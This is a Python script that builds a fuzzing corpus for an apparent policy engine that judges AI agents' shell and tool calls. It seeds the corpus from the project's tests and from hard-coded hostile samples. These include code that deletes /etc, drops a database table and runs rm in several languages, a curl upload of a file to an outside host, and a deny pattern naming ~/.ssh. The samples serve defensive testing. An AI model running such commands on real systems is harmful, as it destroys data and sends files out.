#!/usr/bin/env python3
"""Writes each fuzz target's first inputs from the project's own tests: seeds.py [DIR] (default: fuzz/corpus)."""

import hashlib
import json
import pathlib
import sys
import tomllib

root = pathlib.Path(__file__).resolve().parent.parent
corpus = pathlib.Path(sys.argv[1]) if len(sys.argv) > 1 else root / "fuzz" / "corpus"


def put(target, data):
    if isinstance(data, str):
        data = data.encode()
    folder = corpus / target
    folder.mkdir(parents=True, exist_ok=True)
    (folder / hashlib.sha256(data).hexdigest()[:20]).write_bytes(data)


def strings(value):
    """Every string in a value."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


files = [*root.glob("tests/effects/*.toml"), root / "tests/metamorphic/bases.toml"]
for file in files:
    for case in tomllib.loads(file.read_text(encoding="utf-8")).get("case", []):
        runs = case.get("run", [])
        # A command may stand in a list with what it must have.
        for run in (one if isinstance(one, str) else one[0] for one in ([runs] if isinstance(runs, str) else runs)):
            put("shell", run)
            event = {"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": run}, "cwd": "/home/dev"}
            put("event", json.dumps(event))
            # The quoted parts of a command line are its programs and patterns.
            for at, part in enumerate(run.replace('"', "'").split("'")[1::2]):
                put("code", bytes([at * 7 % 23]) + part.encode())
            words = run.split()
            put("paths", "\n".join(words[-2:]))
        for effect in case.get("has", []) + case.get("only", []) + case.get("key", []):
            put("paths", "\n".join(effect.split()[1:3]))

programs = [
    (0, "import os, shutil\nshutil.rmtree('/etc')\nopen('x', 'w').write('a')\n"),
    (1, "require('fs').rmSync('/etc', {recursive: true}); fetch(`https://x.org/${a}`)"),
    (2, 'BEGIN { system("rm x"); print > "/tmp/x"; while (("ls" | getline a) > 0) print a }'),
    (3, "s/a/b/ge; w /etc/x\n1e rm x"),
    (5, 'unlink "/etc/x"; system("rm x"); open(F, ">", "x"); `rm x`; qx{rm x}'),
    (7, "File.delete('x'); FileUtils.rm_rf('/etc'); %x(rm x); IO.popen('rm x')"),
    (8, "<?php unlink('x'); shell_exec('rm x'); file_put_contents('x', 'a');"),
    (16, "select * from users; drop table users; delete from a where b = 'c'"),
]
# What people write of verdicts: commands, and rule files with `[[test]]` tables.
for file in [*root.glob("tests/packs/*.toml"), *root.glob("config/packs/*.toml")]:
    put("rules", file.read_bytes())
    for test in tomllib.loads(file.read_text(encoding="utf-8")).get("test", []):
        for command in strings(test.get("command")):
            put("shell", command)

for language, text in programs:
    put("code", bytes([language]) + text.encode())

for file in [*root.glob("tests/cases/*.toml"), *root.glob("tests/config/*/*.toml"), *root.glob("config/*.toml")]:
    put("rules", file.read_bytes())
    if file.parent.name == "cases":
        for text in strings(tomllib.loads(file.read_text(encoding="utf-8"))):
            put("rules" if "[rule" in text else "paths", text)

for file in [*root.glob("tests/payloads/**/*.json"), *root.glob("tests/agents/**/*.in.json"), *root.glob("examples/payloads/*.json")]:
    put("event", file.read_bytes())

# Whole judgements: hostile patterns beside hostile calls, and the project's own rules beside its own commands.
rule = "[rule.x]\n{} = {}\ndeny = \"{}\"\n"
patterns = [
    ("command", "echo ** a ** a ** a ** z"), ("path", "/**/a/**/a/**/z"), ("path", "**/*a*/**/[ab]?"), ("path", "~/.ssh"),
    ("host", "*a*a*b"), ("within", "./**/x"), ("match", "Bash(git push:*)"), ("prompt", "(a{20}){20}b"), ("effect", "write"),
]
calls = [
    "echo a a a a a", "cat **/**/a/**/*", "rm -rf */*/ [a-z]*", "ln -s a b; cat b/../*", "bash -c 'cat <<A\nx\nA\n'", "find . -exec rm {} +",
    "curl -T a.txt http://aaaa.ab/", "f() { g; }; g() { f; }; f", 'Write {"file_path": "a/b", "content": "x"}', 'Grep {"pattern": "a", "path": "a"}',
    'mcp__a__write_file {"path": "../x", "text": "y"}', "time time (a)(b)", "for a in *; do for b in *; do cat $a/$b; done; done",
]
trees = ["a/b\na/c -> ../a\nb -> a\n.env\n", "d/" + "/d" * 30 + "\nl -> l\nm -> /etc\n", "\n".join(f"f{i}" for i in range(40))]
users = ["", "profile = \"strict\"\nautopilot = true\n", "[rule.r]\nallow = \"x\"\neffect = \"read\"\npath = \"./\"\n[rule.e]\ndeny = \"y\"\npath = \".env\"\n"]
for at, (key, pattern) in enumerate(patterns):
    for to, call in enumerate(calls):
        text = rule.format(key, json.dumps(pattern), "{command|s/a/$0$0/g}")
        put("judgement", "\n".join(["--project", text, "--user", users[(at + to) % 3], "--tree", trees[(at * 2 + to) % 3], "--call", call]))
